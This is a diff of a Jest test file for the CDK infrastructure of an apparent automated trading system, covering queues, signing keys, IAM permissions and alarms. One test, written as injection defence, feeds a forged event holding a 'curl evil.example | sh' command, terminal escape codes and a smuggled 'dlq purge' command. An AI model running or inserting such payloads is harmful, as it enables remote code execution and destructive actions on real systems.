@@ -9,6 +9,7 @@ import {
   joinedText,
   onlyResource,
   referencedId,
+  renderInputTemplate,
   resourceById,
   resourcesOf,
   templateFor,
@@ -18,6 +19,7 @@ import {
 } from './helpers';
 
 const HANDLERS = ROUTES.handlers;
+const PYTHON_SOURCES = new Set(ROUTES.routes.flatMap((r) => r.producers.filter((p) => p.language === 'python').map((p) => p.source)));
 const BROKER_USERS = new Set(['portfolio', 'execution']);
 const TIMEOUTS: Record<string, number> = { strategy: 30, portfolio: 30, execution: 120, monitor: 30 };
 /** The X-Ray statement CDK adds for active tracing: the only Allow on "*" (X-Ray has no resource-level permissions). */
@@ -68,35 +70,39 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
   const busId = () => onlyResource(template, 'AWS::Events::EventBus', { Name: `alchemiser-trading-events-${stage}` })[0];
   const dlqId = () => onlyResource(template, 'AWS::SQS::Queue', { QueueName: `alchemiser-event-dlq-${stage}` })[0];
   const outboxId = () => onlyResource(template, 'AWS::SQS::Queue', { QueueName: `alchemiser-event-outbox-${stage}` })[0];
+  const followUpsId = () => onlyResource(template, 'AWS::SQS::Queue', { QueueName: `alchemiser-order-follow-up-${stage}` })[0];
   const tableId = () => onlyResource(template, 'AWS::DynamoDB::Table', { TableName: `alchemiser-idempotency-${stage}` })[0];
   const ledgerId = () => onlyResource(template, 'AWS::DynamoDB::Table', { TableName: `alchemiser-workflow-ledger-${stage}` })[0];
   const ruleId = (name: string) => onlyResource(template, 'AWS::Events::Rule', { Name: name })[0];
   const secretId = () => onlyResource(template, 'AWS::SecretsManager::Secret', { Name: `alchemiser/${stage}/broker` })[0];
   const functionOf = (handler: string) =>
     onlyResource<FunctionProperties>(template, 'AWS::Lambda::Function', { FunctionName: `alchemiser-${handler}-${stage}` });
+  /** The notification key (the topics' encryption key), found by its alias. */
+  const notificationKeyId = () =>
+    referencedId(
+      onlyResource<{ TargetKeyId: unknown }>(template, 'AWS::KMS::Alias', { AliasName: `alias/alchemiser-notifications-${stage}` })[1].Properties
+        .TargetKeyId,
+    );
+  const signingKeyId = (signer: string) =>
+    referencedId(
+      onlyResource<{ TargetKeyId: unknown }>(template, 'AWS::KMS::Alias', { AliasName: `alias/alchemiser-${stage}-${signer}-signing` })[1].Properties
+        .TargetKeyId,
+    );
 
   describe('event bus and archive', () => {
-    test('bus is named for the stage and only this account may put events', () => {
-      const bus = busId();
-      template.hasResourceProperties('AWS::Events::EventBusPolicy', {
-        EventBusName: { Ref: bus },
-        Statement: {
-          Effect: 'Allow',
-          Action: 'events:PutEvents',
-          Principal: { AWS: { 'Fn::Join': ['', ['arn:', { Ref: 'AWS::Partition' }, ':iam::', { Ref: 'AWS::AccountId' }, ':root']] } },
-          Resource: { 'Fn::GetAtt': [bus, 'Arn'] },
-        },
-      });
-      template.resourceCountIs('AWS::Events::EventBusPolicy', 1);
+    test('bus is named for the stage; its policy is one statement per resource (bus-policy.test.ts)', () => {
+      for (const policy of Object.values(resourcesOf<{ EventBusName: unknown }>(template, 'AWS::Events::EventBusPolicy'))) {
+        expect(policy.Properties.EventBusName).toEqual({ Ref: busId() });
+      }
     });
 
-    test('archive keeps every alchemiser.* event for 365 days', () => {
+    test('archive keeps exactly the Rust sources for 365 days (no Python owner on this stage)', () => {
       template.resourceCountIs('AWS::Events::Archive', 1);
       template.hasResourceProperties('AWS::Events::Archive', {
         ArchiveName: `alchemiser-event-archive-${stage}`,
         RetentionDays: 365,
         SourceArn: { 'Fn::GetAtt': [busId(), 'Arn'] },
-        EventPattern: { source: [{ prefix: `${ROUTES.source_prefix}.` }] },
+        EventPattern: { source: ['alchemiser.execution', 'alchemiser.monitor', 'alchemiser.portfolio', 'alchemiser.strategy'] },
       });
     });
   });
@@ -124,6 +130,37 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
         Properties: { QueueName: `alchemiser-event-${kind}-${stage}` },
         DeletionPolicy: retained ? 'Retain' : 'Delete',
       });
+    });
+
+    test('order follow-ups: SSE-SQS, TLS only, visibility 180 s, to the DLQ after 5 receives', () => {
+      const queue = resourceById<{ RedrivePolicy: unknown; VisibilityTimeout: number; SqsManagedSseEnabled: boolean }>(template, followUpsId());
+      expect(queue.Properties.VisibilityTimeout).toBe(180);
+      expect(queue.Properties.SqsManagedSseEnabled).toBe(true);
+      expect(queue.Properties.RedrivePolicy).toEqual({ deadLetterTargetArn: { 'Fn::GetAtt': [dlqId(), 'Arn'] }, maxReceiveCount: 5 });
+      expect(queue.DeletionPolicy).toBe(retained ? 'Retain' : 'Delete');
+      template.hasResourceProperties('AWS::SQS::QueuePolicy', {
+        Queues: [{ Ref: followUpsId() }],
+        PolicyDocument: {
+          Statement: [Match.objectLike({ Effect: 'Deny', Action: 'sqs:*', Condition: { Bool: { 'aws:SecureTransport': 'false' } } })],
+        },
+      });
+    });
+
+    test(`order follow-ups reach execution one at a time, with partial batch responses, ${rulesEnabled ? 'enabled' : 'disabled'} with the rules`, () => {
+      const [, mapping] = onlyResource<Record<string, unknown>>(template, 'AWS::Lambda::EventSourceMapping');
+      expect(mapping.Properties).toEqual({
+        FunctionName: { Ref: functionOf('execution')[0] },
+        EventSourceArn: { 'Fn::GetAtt': [followUpsId(), 'Arn'] },
+        BatchSize: 1,
+        FunctionResponseTypes: ['ReportBatchItemFailures'],
+        Enabled: rulesEnabled,
+        Tags: expect.anything() as unknown,
+      });
+      // The mapping is created after the role's policy: CloudFormation checks the permissions then.
+      const dependsOn = (template.toJSON() as { Resources: Record<string, { Type: string; DependsOn?: string[] }> }).Resources;
+      const esm = Object.values(dependsOn).find((r) => r.Type === 'AWS::Lambda::EventSourceMapping');
+      const roleId = referencedId(functionOf('execution')[1].Properties.Role);
+      expect(esm?.DependsOn).toEqual(expect.arrayContaining([roleId, expect.stringMatching(/^HandlerexecutionRoleDefaultPolicy/) as unknown]));
     });
 
     test('the DLQ accepts SendMessage from each rule, and only from the rules', () => {
@@ -261,13 +298,35 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
         EVENTBRIDGE_OUTBOX_QUEUE_URL: { Ref: outboxId() },
         IDEMPOTENCY_TABLE_NAME: { Ref: tableId() },
         RUST_LOG: 'info',
+        SIGNING_KEY_ID: { 'Fn::GetAtt': [signingKeyId(handler), 'Arn'] },
+        // Its value, signer by signer: signing-keys.test.ts.
+        VERIFY_KEY_IDS: expect.anything() as unknown,
+        // No Python owner on these stages: every event must be signed.
+        UNSIGNED_SOURCES: '',
       };
       if (BROKER_USERS.has(handler)) {
         expected.BROKER = broker;
         expected.BROKER_SECRET_NAME = `alchemiser/${stage}/broker`;
       }
-      if (handler === 'execution') expected.ALLOW_REPLAY_EXECUTION = 'false';
-      if (handler === 'strategy') expected.STRATEGY_ALLOCATION = JSON.stringify({ SPY: '0.6', TLT: '0.4' });
+      if (handler === 'execution') {
+        expected.ALLOW_REPLAY_EXECUTION = 'false';
+        expected.FOLLOW_UP_QUEUE_URL = { Ref: followUpsId() };
+        if (stage === 'prod') {
+          // config/stages.json: prod's conservative limits, decimals as strings.
+          Object.assign(expected, {
+            MAX_ORDER_NOTIONAL: '25000',
+            MAX_PLAN_TURNOVER: '1.0',
+            MAX_DAILY_BUY_NOTIONAL: '100000',
+            MAX_DAILY_ORDERS: '40',
+            MAX_FAILED_SELL_NOTIONAL: '500',
+          });
+        }
+      }
+      if (handler === 'strategy') {
+        expected.STRATEGY_ALLOCATION = JSON.stringify({ SPY: '0.6', TLT: '0.4' });
+        expected.STRATEGY_RUN_AT = '{"anchor":"close","offsetMinutes":15}';
+      }
+      if (handler === 'strategy' || handler === 'execution') expected.TRADING_HALT_PARAMETER = `/alchemiser/${stage}/trading-halt`;
       if (handler === 'execution' || handler === 'monitor') expected.WORKFLOW_DEADLINE_SECONDS = '1800';
       if (handler === 'monitor') {
         expected.LEDGER_TABLE_NAME = { Ref: ledgerId() };
@@ -313,7 +372,8 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
         const [, rule] = onlyResource<RuleProperties>(template, 'AWS::Events::Rule', { Name: ruleNameFor(spec, stage) });
         const p = rule.Properties;
         expect(p.EventBusName).toEqual({ Ref: busId() });
-        expect(p.EventPattern).toEqual({ source: spec.sources, 'detail-type': spec.event_types });
+        // No Python owner on these stages: the routing table's Python sources are left out.
+        expect(p.EventPattern).toEqual({ source: spec.sources.filter((s) => !PYTHON_SOURCES.has(s)), 'detail-type': spec.event_types });
         expect(p.State).toBe(rulesEnabled ? 'ENABLED' : 'DISABLED');
         expect(p.Targets).toEqual([
           {
@@ -365,10 +425,10 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
       template.resourceCountIs('AWS::Scheduler::Schedule', 2);
     });
 
-    test(`strategy: 09:35 New York on weekdays, ${scheduleEnabled ? 'enabled' : 'disabled'}, DLQ`, () => {
+    test(`strategy: 15 minutes before the regular and the early close, New York, weekdays, ${scheduleEnabled ? 'enabled' : 'disabled'}, DLQ`, () => {
       template.hasResourceProperties('AWS::Scheduler::Schedule', {
         Name: `alchemiser-strategy-${stage}`,
-        ScheduleExpression: 'cron(35 9 ? * MON-FRI *)',
+        ScheduleExpression: 'cron(45 12,15 ? * MON-FRI *)',
         ScheduleExpressionTimezone: 'America/New_York',
         FlexibleTimeWindow: { Mode: 'OFF' },
         State: scheduleEnabled ? 'ENABLED' : 'DISABLED',
@@ -488,9 +548,34 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
           },
         },
         { sid: 'ParkUndeliveredEventsInOutbox', actions: ['sqs:SendMessage'], resource: outboxId() },
+        { sid: 'SignOwnEvents', actions: ['kms:GenerateMac'], resource: signingKeyId(handler) },
       ];
+      const verifies: Record<string, string[]> = {
+        strategy: [],
+        portfolio: ['strategy'],
+        execution: ['portfolio'],
+        monitor: ['execution', 'monitor', 'portfolio', 'strategy'],
+      };
+      for (const signer of verifies[handler]) {
+        const sid = `VerifySignaturesOf${signer.charAt(0).toUpperCase()}${signer.slice(1)}`;
+        expected.push({ sid, actions: ['kms:VerifyMac'], resource: signingKeyId(signer) });
+      }
       if (BROKER_USERS.has(handler)) {
         expected.push({ sid: 'ReadBrokerSecret', actions: ['secretsmanager:DescribeSecret', 'secretsmanager:GetSecretValue'], resource: secretId() });
+      }
+      if (handler === 'strategy' || handler === 'execution') {
+        const halt = onlyResource(template, 'AWS::SSM::Parameter', { Name: `/alchemiser/${stage}/trading-halt` })[0];
+        expected.push({ sid: 'ReadTradingHalt', actions: ['ssm:GetParameter'], resource: `arn:AWS::Partition:ssm:AWS::Region:AWS::AccountId:parameter${halt}` });
+      }
+      if (handler === 'execution') {
+        expected.push(
+          { sid: 'SendOrderFollowUps', actions: ['sqs:SendMessage'], resource: followUpsId() },
+          {
+            sid: 'ConsumeOrderFollowUps',
+            actions: ['sqs:ChangeMessageVisibility', 'sqs:DeleteMessage', 'sqs:GetQueueAttributes', 'sqs:ReceiveMessage'],
+            resource: followUpsId(),
+          },
+        );
       }
       if (handler === 'monitor') {
         expected.push(
@@ -503,7 +588,8 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
           { sid: 'SweepOpenWorkflows', actions: ['dynamodb:Query'], resource: `${ledgerId()}/index/open_by_start` },
           {
             sid: 'PeekDeadLetterQueue',
-            actions: ['sqs:ChangeMessageVisibility', 'sqs:GetQueueAttributes', 'sqs:ReceiveMessage'],
+            // No ChangeMessageVisibility: the monitor cannot keep dead letters out of sight.
+            actions: ['sqs:GetQueueAttributes', 'sqs:ReceiveMessage'],
             resource: dlqId(),
           },
         );
@@ -523,14 +609,37 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
       }
     });
 
-    test('only portfolio and execution can read the broker secret', () => {
+    test('only portfolio and execution can read the broker secret; the operator may put new keys', () => {
       const secret = secretId();
       const readers = Object.entries(resourcesOf<PolicyProperties>(template, 'AWS::IAM::Policy'))
         .filter(([, p]) => JSON.stringify(p.Properties.PolicyDocument).includes(`"${secret}"`))
         .flatMap(([, p]) => p.Properties.Roles.map(referencedId));
       const roleOf = (handler: string) => referencedId(functionOf(handler)[1].Properties.Role);
-      expect(readers.sort()).toEqual([roleOf('execution'), roleOf('portfolio')].sort());
-      expect(template.findResources('AWS::SecretsManager::ResourcePolicy')).toEqual({});
+      // IAM: the two function roles read; the operator role only writes (PutSecretValue, DescribeSecret).
+      const operator = onlyResource(template, 'AWS::IAM::Role', { RoleName: `alchemiser-operator-${stage}` })[0];
+      expect(readers.sort()).toEqual([roleOf('execution'), operator, roleOf('portfolio')].sort());
+      const operatorGrant = allStatements(template).find((s) => s.statement.Sid === 'PutBrokerKeys')?.statement;
+      expect([...asList(operatorGrant?.Action)].sort()).toEqual(['secretsmanager:DescribeSecret', 'secretsmanager:PutSecretValue']);
+      // The resource policy: everyone else is denied GetSecretValue, whatever IAM grants them.
+      const [, policy] = onlyResource<{ SecretId: unknown; ResourcePolicy: { Statement: Statement[] } }>(
+        template,
+        'AWS::SecretsManager::ResourcePolicy',
+      );
+      expect(policy.Properties.SecretId).toEqual({ Ref: secret });
+      expect(policy.Properties.ResourcePolicy.Statement).toEqual([
+        {
+          Sid: 'OnlyBrokerUsersReadTheKeys',
+          Effect: 'Deny',
+          Principal: { AWS: '*' },
+          Action: 'secretsmanager:GetSecretValue',
+          Resource: '*',
+          Condition: {
+            ArnNotEquals: {
+              'aws:PrincipalArn': [{ 'Fn::GetAtt': [roleOf('portfolio'), 'Arn'] }, { 'Fn::GetAtt': [roleOf('execution'), 'Arn'] }],
+            },
+          },
+        },
+      ]);
     });
 
     test('no Allow statement has a "*" action or resource, but X-Ray\'s and the key policy\'s "this key"', () => {
@@ -540,6 +649,11 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
       expect(statements.length).toBeGreaterThan(10);
       for (const { from, statement } of statements) {
         if (statement.Effect === 'Deny' || from.endsWith('(key policy)')) continue;
+        // The operator follows the replays it starts, named alchemiser-<stage>-* (acknowledged for cdk-nag).
+        if (statement.Sid === 'FollowOwnReplays') {
+          expect(JSON.stringify(statement.Resource)).toContain(`:replay/alchemiser-${stage}-*`);
+          continue;
+        }
         if (statement.Resource === '*') {
           expect(statement).toEqual(XRAY_STATEMENT);
           continue;
@@ -552,7 +666,7 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
 
   describe('workflow notifications', () => {
     const topicId = () => onlyResource(template, 'AWS::SNS::Topic', { TopicName: `alchemiser-workflow-notifications-${stage}` })[0];
-    const keyId = () => onlyResource(template, 'AWS::KMS::Key')[0];
+    const keyId = notificationKeyId;
 
     test('topic encrypted with the stage notification key, TLS only', () => {
       template.hasResourceProperties('AWS::SNS::Topic', {
@@ -567,10 +681,13 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
       });
     });
 
-    test('WorkflowFailed from every producer (Rust and Python) goes to the topic with a sentence to act on', () => {
+    test('WorkflowFailed from every Rust producer (no Python owner here) goes to the topic as a notification', () => {
       const name = `alchemiser-notify-workflow-failed-${stage}`;
       const [, rule] = onlyResource<RuleProperties>(template, 'AWS::Events::Rule', { Name: name });
-      expect(rule.Properties.EventPattern).toEqual({ source: sourcesOf(ROUTES, ['WorkflowFailed']), 'detail-type': ['WorkflowFailed'] });
+      expect(rule.Properties.EventPattern).toEqual({
+        source: sourcesOf(ROUTES, ['WorkflowFailed']).filter((s) => !PYTHON_SOURCES.has(s)),
+        'detail-type': ['WorkflowFailed'],
+      });
       expect(rule.Properties.State).toBe(rulesEnabled ? 'ENABLED' : 'DISABLED');
       expect(rule.Properties.Targets).toEqual([
         {
@@ -580,16 +697,54 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
           DeadLetterConfig: { Arn: { 'Fn::GetAtt': [dlqId(), 'Arn'] } },
           InputTransformer: {
             InputPathsMap: {
+              source: '$.source',
               'detail-correlation_id': '$.detail.correlation_id',
               'detail-failure_step': '$.detail.failure_step',
               'detail-failure_reason': '$.detail.failure_reason',
             },
-            InputTemplate:
-              '"Workflow <detail-correlation_id> failed at <detail-failure_step>: <detail-failure_reason>. ' +
-              `Inspect: alchemiser workflows show <detail-correlation_id> --stage ${stage}"`,
+            InputTemplate: expect.any(String) as unknown,
           },
         },
       ]);
+    });
+
+    test('a forged id or reason stays quoted data in the notification, and no command line is built from it', () => {
+      const [, rule] = onlyResource<{ Targets: { InputTransformer: { InputTemplate: string; InputPathsMap: Record<string, string> } }[] }>(
+        template,
+        'AWS::Events::Rule',
+        { Name: `alchemiser-notify-workflow-failed-${stage}` },
+      );
+      const { InputTemplate, InputPathsMap } = rule.Properties.Targets[0].InputTransformer;
+      const forged = 'x"; curl evil.example | sh; echo "\n\u001b[2JFAKE LOG LINE';
+      const reason = 'see below\r\nInspect: alchemiser dlq purge --stage prod';
+      const event = {
+        source: 'alchemiser.execution',
+        detail: { correlation_id: forged, failure_step: 'execution', failure_reason: reason },
+      };
+      // The rendered notification is JSON (EventBridge inserts each value as a JSON string) ...
+      const message = JSON.parse(renderInputTemplate(InputTemplate, InputPathsMap, event)) as {
+        notice: string;
+        event_values_untrusted: Record<string, unknown>;
+        to_inspect: string;
+      };
+      // ... holding the event's values verbatim, as data, under a key that says so ...
+      expect(message.event_values_untrusted).toEqual({
+        source: 'alchemiser.execution',
+        correlation_id: forged,
+        failure_step: 'execution',
+        failure_reason: reason,
+      });
+      // ... and no other text carries anything from the event: the commands have a placeholder to fill in.
+      for (const text of [message.notice, message.to_inspect]) {
+        expect(text).not.toContain('curl');
+        expect(text).not.toContain('purge');
+      }
+      expect(message.to_inspect).toContain(`alchemiser workflows show CORRELATION_ID --stage ${stage}`);
+      expect(message.notice).toBe(`Alchemiser stage ${stage}: a workflow failed.`);
+      // Every placeholder stands as a whole JSON value (after a key, before , or }), never inside a quoted string.
+      const placeholders = InputTemplate.match(/<[A-Za-z0-9_.-]+>/g) ?? [];
+      expect(placeholders).toHaveLength(4);
+      expect(InputTemplate.match(/":<[A-Za-z0-9_.-]+>[,}]/g)).toHaveLength(placeholders.length);
     });
 
     test('the topic policy lets events.amazonaws.com publish for the notification rule only', () => {
@@ -614,13 +769,15 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
 
   describe('alarms and dashboard', () => {
     const alarmTopicId = () => onlyResource(template, 'AWS::SNS::Topic', { TopicName: `alchemiser-alarms-${stage}` })[0];
+    const STAGE_ALARMS_ARN = `arn:Ref:AWS::Partition:cloudwatch:Ref:AWS::Region:Ref:AWS::AccountId:alarm:alchemiser-${stage}-*`;
     const ruleNames = () => [
       ...ROUTES.rules.map((r) => ruleNameFor(r, stage)),
       `alchemiser-notify-workflow-failed-${stage}`,
     ];
 
     test('the alarm topic is encrypted with the stage key, whose policy lets CloudWatch and EventBridge use it', () => {
-      const [keyId, key] = onlyResource<{ EnableKeyRotation: boolean; KeyPolicy: { Statement: Statement[] } }>(template, 'AWS::KMS::Key');
+      const keyId = notificationKeyId();
+      const key = resourceById<{ EnableKeyRotation: boolean; KeyPolicy: { Statement: Statement[] } }>(template, keyId);
       template.hasResourceProperties('AWS::SNS::Topic', { TopicName: `alchemiser-alarms-${stage}`, KmsMasterKeyId: { 'Fn::GetAtt': [keyId, 'Arn'] } });
       expect(key.Properties.EnableKeyRotation).toBe(true);
       template.hasResourceProperties('AWS::KMS::Alias', { AliasName: `alias/alchemiser-notifications-${stage}` });
@@ -629,19 +786,85 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
         [{ Service: 'cloudwatch.amazonaws.com' }, ['kms:Decrypt', 'kms:GenerateDataKey*']],
         [{ Service: 'events.amazonaws.com' }, ['kms:Decrypt', 'kms:GenerateDataKey*']],
       ]);
+      // CloudWatch may use the key for this account's alarms of this stage only, as the topic policy says.
+      expect(services[0].Condition).toEqual({
+        StringEquals: { 'aws:SourceAccount': { Ref: 'AWS::AccountId' } },
+        ArnLike: { 'aws:SourceArn': expect.anything() as unknown },
+      });
+      expect(joinedText(services[0].Condition?.ArnLike['aws:SourceArn'])).toBe(STAGE_ALARMS_ARN);
     });
 
-    test('DLQ and outbox depth ≥ 1', () => {
-      for (const queue of [dlqId(), outboxId()]) {
-        template.hasResourceProperties('AWS::CloudWatch::Alarm', {
-          Namespace: 'AWS/SQS',
-          MetricName: 'ApproximateNumberOfMessagesVisible',
-          Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [queue, 'QueueName'] } }],
-          Threshold: 1,
-          ComparisonOperator: 'GreaterThanOrEqualToThreshold',
-          AlarmActions: Match.anyValue(),
-        });
-      }
+    test('the alarm topic policy lets CloudWatch publish for this stage\'s alarms of this account, beside the TLS deny', () => {
+      const [, policy] = onlyResource<PolicyProperties>(template, 'AWS::SNS::TopicPolicy', { Topics: [{ Ref: alarmTopicId() }] });
+      const statements = asList(policy.Properties.PolicyDocument.Statement);
+      expect(statements.filter((s) => s.Effect === 'Deny')).toEqual([
+        expect.objectContaining({ Action: 'sns:Publish', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }),
+      ]);
+      const allows = statements.filter((s) => s.Effect === 'Allow');
+      expect(allows).toEqual([
+        {
+          Sid: 'StageAlarmsPublish',
+          Effect: 'Allow',
+          Principal: { Service: 'cloudwatch.amazonaws.com' },
+          Action: 'sns:Publish',
+          Resource: { Ref: alarmTopicId() },
+          Condition: {
+            StringEquals: { 'aws:SourceAccount': { Ref: 'AWS::AccountId' } },
+            ArnLike: { 'aws:SourceArn': expect.anything() as unknown },
+          },
+        },
+      ]);
+      expect(joinedText(allows[0].Condition?.ArnLike['aws:SourceArn'])).toBe(STAGE_ALARMS_ARN);
+      // ... and the pattern covers every alarm of the stack.
+      const names = Object.values(resourcesOf<{ AlarmName: string }>(template, 'AWS::CloudWatch::Alarm')).map((a) => a.Properties.AlarmName);
+      expect(names.length).toBeGreaterThan(10);
+      for (const name of names) expect(name.startsWith(`alchemiser-${stage}-`)).toBe(true);
+    });
+
+    test('an order follow-up older than 30 minutes alarms', () => {
+      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
+        AlarmName: `alchemiser-${stage}-order-follow-ups-late`,
+        Namespace: 'AWS/SQS',
+        MetricName: 'ApproximateAgeOfOldestMessage',
+        Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [followUpsId(), 'QueueName'] } }],
+        Statistic: 'Maximum',
+        Threshold: 1800,
+        ComparisonOperator: 'GreaterThanThreshold',
+        AlarmActions: [{ Ref: alarmTopicId() }],
+      });
+    });
+
+    test('outbox depth ≥ 1', () => {
+      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
+        Namespace: 'AWS/SQS',
+        MetricName: 'ApproximateNumberOfMessagesVisible',
+        Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [outboxId(), 'QueueName'] } }],
+        Threshold: 1,
+        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
+        AlarmActions: Match.anyValue(),
+      });
+    });
+
+    test('DLQ: visible + in-flight dead letters ≥ 1 (a peek that receives them cannot hide them from the alarm)', () => {
+      const sqsMetric = (id: string, name: string) => ({
+        Id: id,
+        MetricStat: {
+          Metric: { Namespace: 'AWS/SQS', MetricName: name, Dimensions: [{ Name: 'QueueName', Value: { 'Fn::GetAtt': [dlqId(), 'QueueName'] } }] },
+          Period: 60,
+          Stat: 'Maximum',
+        },
+        ReturnData: false,
+      });
+      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
+        AlarmName: `alchemiser-${stage}-dlq-not-empty`,
+        Metrics: Match.arrayEquals([
+          Match.objectLike({ Expression: 'visible + inFlight' }),
+          sqsMetric('visible', 'ApproximateNumberOfMessagesVisible'),
+          sqsMetric('inFlight', 'ApproximateNumberOfMessagesNotVisible'),
+        ]),
+        Threshold: 1,
+        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
+      });
     });
 
     test('FailedInvocations of every rule, by EventBusName and RuleName', () => {
@@ -696,7 +919,8 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
 
     test('every alarm notifies the stage alarm topic', () => {
       const alarms = Object.values(resourcesOf(template, 'AWS::CloudWatch::Alarm'));
-      expect(alarms).toHaveLength(2 + ruleNames().length + 2 * HANDLERS.length + 3);
+      // DLQ, outbox, follow-ups late; failed invocations per rule; errors and throttles per function; three outcomes.
+      expect(alarms).toHaveLength(3 + ruleNames().length + 2 * HANDLERS.length + 3);
       for (const alarm of alarms) expect(alarm.Properties.AlarmActions).toEqual([{ Ref: alarmTopicId() }]);
     });
 
@@ -748,7 +972,7 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
     });
   });
 
-  test('outputs and SSM parameters for bus, DLQ, outbox, tables and the notification topic', () => {
+  test('outputs and SSM parameters for bus, DLQ, outbox, tables, the notification topic and the operator role', () => {
     const topic = onlyResource(template, 'AWS::SNS::Topic', { TopicName: `alchemiser-workflow-notifications-${stage}` })[0];
     const expected: [string, string, unknown][] = [
       ['EventBusName', 'bus-name', { Ref: busId() }],
@@ -758,6 +982,12 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
       ['IdempotencyTableName', 'idempotency-table', { Ref: tableId() }],
       ['WorkflowLedgerTableName', 'ledger-table', { Ref: ledgerId() }],
       ['WorkflowNotificationTopicArn', 'notification-topic-arn', { Ref: topic }],
+      ['FollowUpQueueUrl', 'follow-up-queue-url', { Ref: followUpsId() }],
+      [
+        'OperatorRoleArn',
+        'operator-role-arn',
+        { 'Fn::GetAtt': [onlyResource(template, 'AWS::IAM::Role', { RoleName: `alchemiser-operator-${stage}` })[0], 'Arn'] },
+      ],
     ];
     for (const [output, parameter, value] of expected) {
       template.hasOutput(output, { Value: value });
@@ -767,7 +997,8 @@ describe.each(STAGES)('stage $stage', ({ stage, rulesEnabled, scheduleEnabled, b
         Value: value,
       });
     }
-    template.resourceCountIs('AWS::SSM::Parameter', expected.length);
+    // ... and the kill switch (kill-switch.test.ts).
+    template.resourceCountIs('AWS::SSM::Parameter', expected.length + 1);
   });
 });
 
